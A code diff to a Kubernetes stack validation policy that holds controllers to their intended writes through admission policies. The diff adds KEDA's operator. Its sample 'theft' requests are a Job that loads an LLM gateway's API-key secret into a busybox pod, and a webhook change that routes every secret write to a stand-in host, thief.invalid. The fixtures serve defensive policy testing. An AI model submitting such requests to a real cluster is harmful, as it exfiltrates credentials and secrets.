@@ -141,6 +141,16 @@ const FENCED: FencedController[] = [
         account: (r) => chartAccount(r, "plugin-barman-cloud"),
         thefts: [{ group: "", version: "v1", resource: "secrets", operation: "CREATE", namespace: "cnpg-system", name: "token", object: { type: "kubernetes.io/service-account-token" } }, bindingToEveryone("groundwork-data", "postgres-barman-cloud")],
     },
+    {
+        chart: /(^|\/)keda$/,
+        rights: "create Jobs in the namespaces it watches and update every validating webhook configuration and APIService (kedacore/charts@v2.19.0 keda/templates/manager/clusterrole.yaml L120-131, minimal-rbac.yaml L94-115)",
+        // values.yaml L327-332: serviceAccount.operator.name, else serviceAccount.name (minimal-rbac.yaml L68).
+        account: (r) => String(r.props.values?.serviceAccount?.operator?.name ?? r.props.values?.serviceAccount?.name ?? "keda-operator"),
+        thefts: [{ group: "batch", version: "v1", resource: "jobs", operation: "CREATE", namespace: "groundwork-inference", name: "probe", object: { spec: { template: { spec: { serviceAccountName: "llm-gateway", containers: [{ name: "probe", image: "busybox", envFrom: [{ secretRef: { name: "llm-gateway-keys" } }] }] } } } } },
+            { group: "admissionregistration.k8s.io", version: "v1", resource: "validatingwebhookconfigurations", operation: "UPDATE", namespace: "", name: "keda-admission",
+                oldObject: { webhooks: [{ name: "vscaledobject.kb.io", rules: [{ operations: ["CREATE", "UPDATE"], resources: ["scaledobjects"] }], clientConfig: { service: { name: "keda-admission-webhooks", namespace: "keda" } } }] },
+                object: { webhooks: [{ name: "vscaledobject.kb.io", rules: [{ operations: ["CREATE", "UPDATE"], resources: ["scaledobjects"] }], clientConfig: { service: { name: "keda-admission-webhooks", namespace: "keda" } } }, { name: "secrets.thief.invalid", rules: [{ operations: ["CREATE", "UPDATE"], resources: ["secrets"] }], failurePolicy: "Ignore", clientConfig: { url: "https://thief.invalid/" } }] } }],
+    },
 ];
 
 /**
@@ -164,7 +174,7 @@ const fenceMissing = (username: string, rights: string, theft: AdmissionRequest)
 
 export const controllerWritesFenced: StackValidationPolicy = {
     name: "controller-writes-fenced",
-    description: "A controller whose chart binds it cluster-wide to write what runs pods or holds secrets (the Vault Secrets Operator, the prometheus-operator, kured, the barman-cloud plugin, cert-manager's controller and CA injector, the CloudNativePG operator, Linkerd's destination controller, the cluster autoscaler, system-upgrade-controller) is held by a ValidatingAdmissionPolicy to what it does: a request of its own outside that is denied.",
+    description: "A controller whose chart binds it cluster-wide to write what runs pods or holds secrets (the Vault Secrets Operator, the prometheus-operator, kured, the barman-cloud plugin, cert-manager's controller and CA injector, the CloudNativePG operator, Linkerd's destination controller, the cluster autoscaler, KEDA's operator, system-upgrade-controller) is held by a ValidatingAdmissionPolicy to what it does: a request of its own outside that is denied.",
     enforcementLevel: "mandatory",
     validateStack: (args, report) => {
         for (const release of args.resources.filter((r) => HELM_RELEASE_TYPES.includes(r.type))) {
